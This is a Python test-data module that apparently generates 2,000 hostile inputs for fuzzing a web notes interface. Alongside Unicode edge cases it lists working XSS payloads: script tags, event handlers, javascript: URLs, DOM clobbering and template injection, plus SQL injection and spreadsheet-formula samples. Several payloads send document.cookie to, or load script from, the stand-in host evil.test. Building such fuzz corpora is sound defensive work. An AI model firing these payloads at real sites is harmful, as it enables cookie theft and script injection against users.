"""Two thousand of them, the same in every run: known ways to run script, markup, what templates take for their own,
writing direction, marks without a place of their own, and what hardly is text at all. Each that can run anything sets
`hit`, asks for a page of `evil.test` or opens a dialog."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import islice, product
from random import Random

MANY = 2000

CALLS = (
    "hit=1",
    "alert(1)",
    "fetch('http://evil.test/'+document.cookie)",
    "window['hit']=1",
    "import('http://evil.test/x.js')",
    "(new Image).src='//evil.test/i'",
)
CLOSERS = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "*/", "\\")
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
HANDLED = (
    "<img src=x {on}={call}>",
    '<img src="x" {on}="{call}">',
    "<svg/{on}={call}>",
    "<svg><animate {on}={call} attributeName=x dur=1s>",
    "<body {on}={call}>",
    "<details open {on}={call}>x",
    "<input autofocus {on}={call}>",
    "<video><source {on}={call}></video>",
    "<audio src=x {on}={call}>",
    "<marquee {on}={call}>x</marquee>",
    "<iframe {on}={call} src=//evil.test></iframe>",
    "<object data=x {on}={call}>",
    "<xss id=x tabindex=1 {on}={call}></xss>",
    "<IMG\t\n SRC=x\n{on} \n=\n{call}\n>",
    "<img src=x:x {on}\x0b={call}>",
)
RUNNING = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT >",
    "<script src=//evil.test/x.js></script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<a href=javascript:{call}>x</a>",
    '<a href="jav&#x09;ascript:{call}">x</a>',
    "<iframe src=javascript:{call}></iframe>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<embed src=data:text/html,<script>{call}</script>>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/><script src=x.js></script>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<style>*{{background:url(http://evil.test/i)}}</style>",
    "<div style='background:url(http://evil.test/i);width:expression({call})'>x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={call}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<svg><script xlink:href=data:,{call} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'>",
    "<template shadowrootmode=open><script>{call}</script></template>",
    "<xml><![CDATA[<script>{call}</script>]]></xml>",
    "<!--[if gte IE 4]><script>{call}</script><![endif]-->",
    "<?xml-stylesheet href='javascript:{call}'?>",
    "<portal src=//evil.test>{call}</portal>",
    "<object type=text/x-scriptlet data=http://evil.test/>{call}</object>",
)
CLOBBER = (
    "<form id=body><input name=textContent></form>",
    "<img name=getElementById>",
    "<a id=chrome><a id=chrome name=runtime>",
    "<main class=rest><header>",
    "</main></body></html>",
    "<button class=row data-row=x>",
    "<h1>C.L. 4471</h1>",
    "<title>x</title>",
)
TEMPLATES = (
    "${{{call}}}",
    "`${{{call}}}`",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<%= {call} %>",
    "#{{{call}}}",
    "[[{call}]]",
    "<!--?lit$123456789$-->{call}",
    "lit$123456789$",
    "?lit$",
    "<?lit$000000000$>{call}",
    "<!--lit-part--><b>{call}</b><!--/lit-part-->",
    "$lit$={call}",
    "@click={call}",
    ".innerHTML={call}",
    "__proto__",
    "[object Object]",
    "%s%n%x{call}",
    "'; DROP TABLE notes; --{call}",
    '=HYPERLINK("http://evil.test/"&A1)',
    "{{'strings':['<img src=x onerror={call}>'],'_$litType$':1}}",
)
DIRECTIONS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u3164\u115f\uffa0\u2800"
MARKS = "".join(map(chr, [*range(0x300, 0x34F), *range(0x483, 0x48A), *range(0x1DC0, 0x1DF0), *range(0x20D0, 0x20F0)]))
RIGHT_TO_LEFT = (
    "היא אמרה שלא ישנה",
    "قالت إنها لم تنم الليلة",
    "אבא 12/03 (שלוש) כוסות",
    "كأس 3، الثلاثاء",
    "ܫܠܡܐ",
    "ދިވެހި",
)
EMOJI = ("👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "👍🏿", "1️⃣", "🇺🇳", "❤️‍🔥", "🧑🏻‍🤝‍🧑🏿", "\u2764\ufe0e", "🫨", "\U0001f3f4\u200d\u2620\ufe0f")
LONE = ("\ud800", "\udfff", "\udc00\ud800", "a\ud83d", "\udc69b", "\ud83d\ud83d\udc69")
NEWLINES = ("\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\v", "\f")
WORDS = ("slept badly", "Tom counted the bottles", "no SI/HI", "HW: worry log", "“felt like a thief.”", "RTC 4/1")

MEGABYTE = "a" + (MARKS[:79] * 6400)[:500_000]
"""A letter under half a million combining marks: a megabyte of UTF-8."""


@dataclass(frozen=True)
class Hostile:
    kind: str
    text: str


def texts() -> list[Hostile]:
    """All of them, each kind in turn, no text twice."""
    random = Random(20250415)
    kinds = {made.__name__.strip("_"): made(random) for made in MAKERS}
    found: dict[str, Hostile] = {}
    while len(found) < MANY:
        for kind, made in kinds.items():
            for text in islice(made, 10):
                found.setdefault(text, Hostile(kind, text))
    return list(found.values())[:MANY]


def _script(random: Random) -> Iterator[str]:
    ways = list(product(CLOSERS, RUNNING, CALLS))
    random.shuffle(ways)
    yield from (closer + way.format(call=call) for closer, way, call in ways)


def _handler(random: Random) -> Iterator[str]:
    ways = list(product(CLOSERS, HANDLED, EVENTS, CALLS))
    random.shuffle(ways)
    yield from (closer + way.format(on=on, call=call) for closer, way, on, call in ways)


def _attribute(random: Random) -> Iterator[str]:
    for closer, event, call in product(CLOSERS, EVENTS, CALLS):
        words = random.choice(WORDS)
        yield f"{words}{closer} {event}={call} autofocus tabindex=0 style=position:fixed;inset:0 x={closer}"


def _encoded(random: Random) -> Iterator[str]:
    ways: list[Callable[[str], str]] = [
        escape,
        lambda text: escape(escape(text)),
        lambda text: "".join(f"&#{ord(c)};" for c in text),
        lambda text: "".join(f"&#x{ord(c):x}" for c in text),
        lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
        lambda text: "".join(f"%{ord(c):02x}" for c in text),
        lambda text: "+ADw-" + text.strip("<>") + "+AD4-",
        lambda text: text.replace("<", "＜").replace(">", "＞"),
        lambda text: text.replace("<", "\x00<\x00"),
        lambda text: "\ufeff" + text.replace("s", "ſ"),
    ]
    for way, shape, call in product(ways, RUNNING, CALLS):
        yield way(shape.format(call=call))


def _clobber(random: Random) -> Iterator[str]:
    for one, other, words in product(CLOBBER, CLOBBER, WORDS):
        yield f"{one}{words}{other}"


def _template(random: Random) -> Iterator[str]:
    for closer, shape, call in product(CLOSERS, TEMPLATES, CALLS):
        yield f"{closer}{shape.format(call=call)}"


def _direction(random: Random) -> Iterator[str]:
    while True:
        parts = [random.choice([*WORDS, *RIGHT_TO_LEFT]) for _ in range(random.randint(1, 4))]
        yield "".join(random.choice(DIRECTIONS) * random.randint(1, 9) + part for part in parts)


def _unseen(random: Random) -> Iterator[str]:
    while True:
        yield "".join(c + random.choice(UNSEEN) * random.randint(0, 40) for c in random.choice(WORDS))


def _control(random: Random) -> Iterator[str]:
    some = [*map(chr, [*range(32), *range(127, 160)]), *NEWLINES, "\ufffe", "\uffff", "\ufffd", "\U0010ffff"]
    while True:
        words = random.choice(WORDS)
        yield "".join(c + "".join(random.choices(some, k=random.randint(0, 3))) for c in words)


def _long(random: Random) -> Iterator[str]:
    while True:
        letter = random.choice(["W", "i", "語", "ﷺ", "𒐫", "ש", "-", "\u00a0", "\t", "_", "/", "👍🏿"])
        yield random.choice(["", "on "]) + letter * random.choice([80, 300, 1000, 4000])


def _emoji(random: Random) -> Iterator[str]:
    while True:
        yield random.choice(["", " "]).join(random.choices(EMOJI, k=random.randint(1, 60)))


def _marks(random: Random) -> Iterator[str]:
    while True:
        many = random.choice([3, 20, 200, 2000])
        words = random.choice([*WORDS, *RIGHT_TO_LEFT])
        yield "".join(c + "".join(random.choices(MARKS, k=random.randint(0, many))) for c in words)


def _lone(random: Random) -> Iterator[str]:
    while True:
        parts = [random.choice([*WORDS, *EMOJI]) + random.choice(LONE) for _ in range(random.randint(1, 6))]
        yield "".join(parts) + random.choice(LONE)


MAKERS: tuple[Callable[[Random], Iterator[str]], ...] = (
    _script,
    _handler,
    _attribute,
    _encoded,
    _clobber,
    _template,
    _direction,
    _unseen,
    _control,
    _long,
    _emoji,
    _marks,
    _lone,
)
